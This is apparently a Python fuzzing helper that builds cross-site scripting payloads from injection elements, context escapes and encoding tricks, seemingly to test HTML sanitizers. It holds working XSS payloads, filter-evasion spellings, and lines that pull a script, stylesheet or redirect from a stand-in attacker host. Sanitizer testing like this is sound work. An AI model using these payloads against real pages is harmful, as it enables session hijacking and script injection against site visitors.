"""Words that would be a program if a page took them for markup: elements × ways out of a context × spellings.

Every element that a payload could make carries id=made, every script says made=1 or alert(1). Knows no page.
"""

import itertools
import random

_ELEMENTS = [
    "<img id=made src onerror=alert(1)>",
    "<img id=made src=x: onerror=made=1>",
    "<svg id=made onload=alert(1)>",
    "<svg><a id=made href=javascript:alert(1)>x",
    "<svg><animate id=made onbegin=made=1 attributeName=x>",
    "<svg><script id=made>alert(1)</script></svg>",
    "<script id=made>alert(1)</script>",
    "<script id=made src=//evil.example/x.js></script>",
    "<script id=made src=data:,made=1></script>",
    "<iframe id=made src=javascript:parent.made=1>",
    "<iframe id=made srcdoc='<script>parent.made=1</script>'>",
    "<object id=made data=javascript:alert(1)>",
    "<embed id=made src=javascript:alert(1)>",
    "<a id=made href=javascript:alert(1)>x</a>",
    "<a id=made href='java\tscript:alert(1)'>x</a>",
    "<body id=made onload=alert(1)>",
    "<details id=made open ontoggle=alert(1)>",
    "<input id=made autofocus onfocus=made=1>",
    "<select id=made autofocus onfocus=made=1>",
    "<textarea id=made autofocus onfocus=made=1>",
    "<video id=made><source onerror=alert(1)></video>",
    "<audio id=made src=x: onerror=alert(1)>",
    "<marquee id=made onstart=alert(1)>x",
    "<form id=made action=javascript:alert(1)><button>x",
    "<button id=made formaction=javascript:alert(1)>x",
    "<math><mtext><img id=made src onerror=made=1>",
    "<style id=made>*{display:none}</style>",
    "<style id=made>@import '//evil.example/x.css'</style>",
    "<link id=made rel=stylesheet href=//evil.example>",
    "<meta id=made http-equiv=refresh content=0;url=//evil.example>",
    "<base id=made href=//evil.example/>",
    "<p id=made style=animation-name:x onanimationend=made=1>",
    "<b id=made onpointerenter=made=1>x</b>",
    "<bdi id=made onclick=made=1>x</bdi>",
    "<template id=made><img src onerror=made=1></template>",
    "<noscript><p title='</noscript><img id=made src onerror=made=1>'>",
    "<x id=made tabindex=1 onfocus=made=1>",
    "{{constructor.constructor('made=1')()}}",
    "${alert(1)}",
    "{ $name } { -brand } {made}",
    '{"type":"img","props":{"id":"made","onerror":"made=1"},"__k":[]}',
    "[x](javascript:alert(1)) ![x](x: 'onerror=made=1')",
    "javascript:made=1",
    "data:text/html,<script id=made>made=1</script>",
    "__proto__",
    "constructor",
]
_WAYS_OUT = [
    "{}",
    '">{}',
    "'>{}",
    "-->{}<!--",
    "</bdi>{}",
    "</b>{}<b>",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "</option></select>{}",
    "]]>{}",
    "*/{}/*",
    '" onmouseover=made=1 x="{}',
    "';{};'",
    "`{}`",
    "x\n{}",
    "<!--><{}",
]


def _plain(text: str) -> str:
    return text


def _shouted(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text)).replace("Made", "made")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;")


def _numbers(text: str) -> str:
    return text.replace("<", "&#x3c;").replace(">", "&#62")


def _twice(text: str) -> str:
    return text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E")


def _escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def _slashes(text: str) -> str:
    return text.replace(" ", "/")


def _unclosed(text: str) -> str:
    return text.replace(">", "")


def _nested(text: str) -> str:
    return text.replace("<", "<<").replace("script", "scr<script>ipt")


_SPELLINGS = [
    _plain,
    _shouted,
    _entities,
    _numbers,
    _twice,
    _percent,
    _escaped,
    _wide,
    _slashes,
    _unclosed,
    _nested,
]


def payloads(count: int, seed: int) -> list[str]:
    """Every element as it is first, then a sample of all combinations; no two alike."""
    made = {
        spelling(way.format(element) if way != "{}" else element): None
        for element, way, spelling in itertools.product(_ELEMENTS, _WAYS_OUT, _SPELLINGS)
    }
    plain = [element for element in _ELEMENTS if element in made]
    others = [each for each in made if each not in set(plain)]
    random.Random(seed).shuffle(others)
    found = [*plain, *others][:count]
    assert len(found) == count
    return found
